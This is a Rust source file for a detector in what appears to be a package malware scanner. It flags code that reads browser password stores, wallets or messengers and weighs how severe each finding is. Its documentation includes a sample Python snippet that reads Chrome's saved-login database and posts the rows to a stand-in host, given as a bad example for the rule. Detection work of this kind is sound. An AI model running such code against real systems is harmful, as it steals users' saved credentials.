//! Browser stores, wallets or messages are read.

use std::collections::BTreeSet;

use bulkhead_core::{Confidence, Severity};

use super::code::{Rule, beside, fixed_address, quoted, say, weigh_called, when};
use crate::archive::Archive;
use crate::behaviour::{Ability, Sources, unasked};
use crate::detector::Meta;
use crate::findings::Findings;

const META: Meta = Meta {
    id: "private-data",
    title: "browser stores, wallets or messages are read",
    severity: Severity::High,
    confidence: Confidence::Medium,
    doc: "\
What browsers, wallets and messengers store (passwords, cookies, keys, session tokens) is read. A package that is about these says so; in any other it is
theft, most of all beside a connection to the network.

```recipe bad
archive demo-1.0-py3-none-any.whl
--- demo/__init__.py
import os, sqlite3, requests
path = os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data'
rows = sqlite3.connect(path).execute('select 1').fetchall()
requests.post('https://collect.test/', json=rows)
```

```recipe good
archive demo-1.0-py3-none-any.whl
--- demo/__init__.py
import os
CACHE = os.path.join(os.path.expanduser('~'), '.cache', 'demo')
```

What to do: refuse the release; if it is your own, read the line that is shown.
",
};

/// See its `META`.
pub(crate) static DETECTOR: Rule = Rule { meta: &META, check };

fn check(archive: &Archive, findings: &mut Findings) {
    for behaviour in &archive.code.behaviours {
        let effect = &behaviour.effect;
        let what = match effect.ability {
            Ability::ReadBrowser => "what a browser or messenger stores is read",
            Ability::Wallet => "a wallet is read or changed",
            Ability::Network if effect.from.any(Sources::PRIVATE) => "private data goes to the network",
            _ => continue,
        };
        let network = effect.ability == Ability::Network || beside(archive, behaviour, Ability::Network, Sources::NONE);
        let weight = match (unasked(behaviour.context), network) {
            (true, true) => (Severity::Critical, Confidence::High),
            (true, false) => (Severity::High, Confidence::Medium),
            (false, true)
                if effect.ability == Ability::Network
                    && (stores(archive, &behaviour.path) >= STORES
                        || trades(archive, &behaviour.path) >= TRADES
                        || effect.from.all(Sources::CREDENTIAL.with(Sources::DECODED))
                            && effect.excerpt.contains("decode(")
                        || (effect.from.any(Sources::CREDENTIAL) || searches(archive, &behaviour.path))
                            && effect.detail.as_deref().is_some_and(fixed_address)) =>
            {
                weigh_called(behaviour)
            }
            // Who reads so many stores and talks to the network in one file has no single tool in mind.
            (false, true) if stores(archive, &behaviour.path) >= 2 * STORES => weigh_called(behaviour),
            (false, true) => (Severity::High, Confidence::Medium),
            (false, false) => (Severity::Medium, Confidence::Low),
        };
        say(findings, &META, behaviour, weight, format!("{what} {}: {}", when(behaviour.context), quoted(behaviour)));
    }
}

/// From so many stores on somebody collects; an honest tool reads the one that it is for.
const STORES: usize = 3;

/// The different stores and wallets that a file reads.
fn stores(archive: &Archive, path: &str) -> usize {
    let read = archive.code.behaviours.iter().filter(|behaviour| {
        behaviour.path == path && matches!(behaviour.effect.ability, Ability::ReadBrowser | Ability::Wallet)
    });
    read.filter_map(|behaviour| behaviour.effect.detail.as_deref())
        .flat_map(|detail| detail.split(", "))
        .collect::<BTreeSet<_>>()
        .len()
}

/// So many trades of thieves in one file are no coincidence.
const TRADES: usize = 3;

/// What a file does, called or not, of what thieves do besides reading stores.
fn trades(archive: &Archive, path: &str) -> usize {
    let abilities = archive.code.behaviours.iter().filter(|behaviour| behaviour.path == path).map(|b| b.effect.ability);
    abilities
        .filter(|ability| {
            matches!(
                ability,
                Ability::ReadBrowser
                    | Ability::Wallet
                    | Ability::Watch
                    | Ability::Clipboard
                    | Ability::Persist
                    | Ability::Disarm
                    | Ability::Escalate
                    | Ability::Mine
            )
        })
        .collect::<BTreeSet<_>>()
        .len()
}

/// Whether a file goes through somebody's home.
fn searches(archive: &Archive, path: &str) -> bool {
    archive.code.behaviours.iter().any(|behaviour| {
        behaviour.path == path
            && behaviour.effect.ability == Ability::ReadFile
            && behaviour.effect.from.any(Sources::PRIVATE)
            && !behaviour.effect.from.any(Sources::CREDENTIAL)
    })
}
